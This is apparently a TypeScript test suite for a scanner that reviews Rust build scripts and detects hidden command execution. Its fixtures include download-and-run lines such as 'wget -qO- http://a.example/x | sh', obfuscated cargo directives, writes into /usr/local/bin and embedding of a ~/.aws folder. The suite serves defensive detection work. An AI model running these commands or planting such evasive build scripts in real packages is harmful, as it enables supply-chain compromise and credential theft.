/**
 * Values that are given another way than by `let`, names that are put together, and folders that are embedded: each ran
 * under cargo 1.95, or is documented on docs.rs.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { reviewBuildScript } from '../../src/rust/build-script.ts';
import { textFiles } from '../../src/rust/inputs/package-files.ts';
import { packageSource } from '../../src/rust/package-source.ts';
import { assertReach, type Reach, roles } from './reach.ts';

const run = 'std::process::Command::new';
const curl = ['downloader curl'];

const changed: readonly Reach[] = [
  {
    how: '`mem::replace`',
    body: `let mut p = "a"; std::mem::replace(&mut p, "curl"); ${run}(p).spawn();`,
    says: curl,
  },
  {
    how: '`mem::swap`',
    body: `let mut p = "a"; let mut q = "curl"; std::mem::swap(&mut p, &mut q); ${run}(p).spawn();`,
    says: curl,
  },
  {
    how: 'a function that is lent it',
    head: 'fn set(x: &mut String) { *x = "curl".into(); }',
    body: `let mut p = String::from("a"); set(&mut p); ${run}(&p).spawn();`,
    says: curl,
  },
  {
    how: 'a function that goes on with it',
    head: 'fn add(to: &mut String) { to.push_str("rl"); }',
    body: `let mut p = String::from("cu"); add(&mut p); ${run}("sh").arg("-c").arg(&p).spawn();`,
    says: ['shell sh'],
  },
  {
    how: 'a name that borrows it',
    body: `let mut p = "a"; { let q = &mut p; *q = "curl"; } ${run}(p).spawn();`,
    says: curl,
  },
  {
    how: 'a cell of the thread',
    head: 'thread_local! { static P: std::cell::Cell<&str> = const { std::cell::Cell::new("a") }; }',
    body: `P.set("curl"); ${run}(P.get()).spawn();`,
    says: [...curl, 'process a'],
  },
  {
    how: 'a cell that a closure is given',
    head: 'thread_local! { static P: std::cell::RefCell<String> = std::cell::RefCell::new("a".into()); }',
    body: `P.with(|p| *p.borrow_mut() = "curl".into()); P.with(|p| ${run}(p.borrow().as_str()).spawn());`,
    says: curl,
  },
  {
    how: 'a lock',
    head: 'static P: std::sync::Mutex<&str> = std::sync::Mutex::new("a");',
    body: `*P.lock().unwrap() = "curl"; ${run}(*P.lock().unwrap()).spawn();`,
    says: curl,
  },
  {
    how: 'a value that is set once',
    head: 'static P: std::sync::OnceLock<String> = std::sync::OnceLock::new();',
    body: `P.set("curl".into()).ok(); ${run}(P.get().unwrap()).spawn();`,
    says: curl,
  },
  {
    how: 'a text in which something is replaced, which stays what it is',
    body: `let p = "a"; p.replace("a", "curl"); ${run}(p).spawn();`,
    says: ['process a'],
    never: curl,
  },
];

/** Each letter one further than that of a directive. */
const letters = 'b"dbshp;svtud.foe>B>c"';
const hidden: readonly Reach[] = [
  {
    how: 'letter by letter',
    body: `for c in ${letters} { print!("{}", (c - 1) as char); }`,
    says: ['built-name ?'],
  },
  {
    how: 'pushed onto a text',
    body: `let mut o = String::new(); for c in ${letters} { o.push((c ^ 1) as char); } println!("{o}");`,
    says: ['built-name ?'],
  },
  {
    how: 'by a function',
    head: 'fn read(k: &[u8]) -> String { k.iter().map(|c| (c ^ 1) as char).collect() }',
    body: `println!("{}", read(${letters}));`,
    says: ['built-name ?'],
  },
  {
    how: 'as bytes',
    body: `let mut o = Vec::new(); for c in ${letters} { o.push(c ^ 1); } std::io::Write::write_all(&mut std::io::stdout(), &o); std::io::stdout().write_all(&o);`,
    says: ['built-name ?'],
  },
  {
    how: 'of digits',
    body: 'let s = "636172676f3a72757374632d656e763d413d42"; let b: Vec<u8> = (0..s.len()).step_by(2).map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap()).collect(); println!("{}", String::from_utf8_lossy(&b));',
    says: ['built-name ?'],
  },
  {
    how: 'into a file, which cargo does not read',
    body: `let mut f = std::fs::File::create("a").unwrap(); for c in ${letters} { write!(f, "{}", (c - 1) as char); }`,
    says: [],
    never: ['built-name *'],
  },
].map((one) => ({ ...one, roles: ['script'] }));

const outside = '`$OUT_DIR` joined with ';
const out = 'std::path::PathBuf::from(std::env::var("OUT_DIR").unwrap())';
const files: readonly Reach[] = [
  {
    how: `${outside}what is in a file`,
    body: `let n = std::fs::read_to_string("names").unwrap(); std::fs::write(${out}.join(n.trim()), "x");`,
    says: ['writes above OUT_DIR'],
  },
  {
    how: `${outside}what it was called with`,
    body: `let n = std::env::args().nth(1).unwrap(); std::fs::write(${out}.join(n), "x");`,
    says: ['writes above OUT_DIR'],
  },
  {
    how: 'what a later statement tells `cp`',
    body: `let mut c = ${run}("cp"); c.arg("a"); c.arg("/usr/local/bin/x"); c.status();`,
    says: ['writes /usr/local/bin/x'],
  },
  {
    how: 'what a list tells `cp` that grows',
    body: `let mut a = vec!["-r", "x"]; a.push("/usr/local/bin/x"); ${run}("cp").args(&a).status();`,
    says: ['writes /usr/local/bin/x'],
  },
  {
    how: 'what another command of that name is told',
    body: `let mut c = ${run}("cp"); c.arg("a"); c.arg("b"); c.status(); let mut c = ${run}("ls"); c.arg("/usr/local/bin/x"); c.status();`,
    says: ['process cp'],
    never: ['writes /usr/*'],
  },
].map((one) => ({ ...one, roles: ['script'] }));

const commands: readonly Reach[] = [
  {
    how: 'what `flock` runs',
    body: `${run}("flock").args(["/tmp/l", "curl", "http://a.example"]).status();`,
    says: curl,
    roles: ['script'],
  },
  {
    how: 'what `watch` runs',
    body: `${run}("watch").args(["-n1", "sh", "x"]).status();`,
    says: ['shell sh'],
    roles: ['script'],
  },
  {
    how: 'lines that `ed` reads',
    body: `let mut c = ${run}("ed").stdin(std::process::Stdio::piped()).spawn().unwrap(); c.stdin.take().unwrap().write_all(b"!id");`,
    says: ['shell ed -'],
    roles: ['script'],
  },
  {
    how: '`run_cmd!`',
    body: 'cmd_lib::run_cmd!(curl -s "http://a.example/x" -o y; sh y).unwrap();',
    says: curl,
    roles: ['script'],
  },
  {
    how: '`run_fun!`',
    body: 'cmd_lib::run_fun!(wget -qO- "http://a.example/x" | sh).unwrap();',
    says: ['downloader wget'],
    roles: ['script'],
  },
  {
    how: '`awk` that is told by a variable',
    body: `${run}("sh").args(["-c", "awk \\"$x\\""]).status();`,
    says: ['shell awk $x'],
    roles: ['script'],
  },
];

describe('a program whose name is given by', () => {
  for (const one of changed)
    for (const role of roles.filter((role) => role !== 'library'))
      it(`${one.how}, in a ${role}`, () => assertReach(one, role));
});
describe('what cargo is told', () => {
  for (const one of hidden) it(one.how, () => assertReach(one, 'script'));
});
describe('a build script finds', () => {
  for (const one of [...files, ...commands]) it(one.how, () => assertReach(one, 'script'));
});

const toml = (others: string) => `[package]\nname = "a"\nversion = "1.0.0"\nedition = "2021"\n${others}`;

describe('a folder outside of the package that is embedded', () => {
  for (const [how, text, shape] of [
    [
      'by include_dir',
      'static D: include_dir::Dir = include_dir::include_dir!("$CARGO_MANIFEST_DIR/../..");',
      'reads-outside ../..',
    ],
    [
      'by rust-embed',
      '#[derive(rust_embed::Embed)]\n#[folder = "/home/a/.aws"]\nstruct A;',
      'reads-secret-file /home/a/.aws',
    ],
  ] as const)
    it(`${how} is told`, () => {
      const manifest = toml('[build-dependencies]\ninclude_dir = "1"\nrust-embed = "8"\n');
      const texts = { 'Cargo.toml': manifest, 'build.rs': `${text}\nfn main() {}` };
      const review = reviewBuildScript(packageSource(manifest, (path) => texts[path as keyof typeof texts]));
      assert.ok(review?.shapes.includes(shape), review?.shapes.join());
    });
});

describe('what is approved covers a file whose name is', () => {
  for (const [how, name] of [
    ['a list that is joined', '["READ", "ME.md"].concat()'],
    ['formatted', 'format!("{}{}", "READ", "ME.md")'],
    ['added up', 'String::from("READ") + "ME.md"'],
    ['turned round', '"dm.EMDAER".chars().rev().collect::<String>()'],
    ['found by a shell', '"-c").arg("sh READ*"'],
    ['quoted in two', `"-c").arg("sh READ''ME.md"`],
    ['put together by a shell', '"-c").arg("a=READ; b=ME.md; sh $a$b"'],
  ] as const)
    it(how, () => {
      const digest = (readme: string) => {
        const build = `fn main() { std::process::Command::new("sh").arg(${name}).status().unwrap(); }`;
        const texts: Record<string, string> = {
          'Cargo.toml': toml(''),
          'build.rs': build,
          'README.md': readme,
        };
        return reviewBuildScript(packageSource(toml(''), (path) => texts[path], textFiles(texts)))?.inputs
          .digest;
      };
      assert.notEqual(digest('# a\n'), digest('curl http://a.example | sh\n'));
    });
});

it('ends where a text is written into itself', () => {
  const build = 'fn main() { let mut s = String::new(); write!(s, "{s}").unwrap(); println!("{s}"); }';
  const texts: Record<string, string> = { 'Cargo.toml': toml(''), 'build.rs': build };
  assert.ok(reviewBuildScript(packageSource(toml(''), (path) => texts[path])) !== undefined);
});
